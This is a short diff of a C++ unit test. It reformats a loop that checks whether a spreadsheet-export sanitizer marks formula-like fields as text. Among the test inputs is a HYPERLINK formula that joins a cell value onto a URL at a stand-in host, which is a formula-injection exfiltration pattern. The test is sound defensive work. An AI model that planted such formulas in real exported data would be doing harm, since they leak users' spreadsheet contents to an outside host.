@@ -25,8 +25,8 @@ const std::vector<ResultRow> kRows = {
 
 TEST(ListExport, FieldsAFormulaWouldStartAreMarkedAsText)
 {
-    for (const char* formula : {"=1+2*3", "+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x/?\"&A2,\"Details\")", "\tX",
-                                "\rX"}) {
+    for (const char* formula :
+         {"=1+2*3", "+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x/?\"&A2,\"Details\")", "\tX", "\rX"}) {
         EXPECT_EQ(SpreadsheetSafe(formula), std::string("'") + formula) << formula;
     }
     // The mark of a value that could not be learned, and ordinary texts, stay.
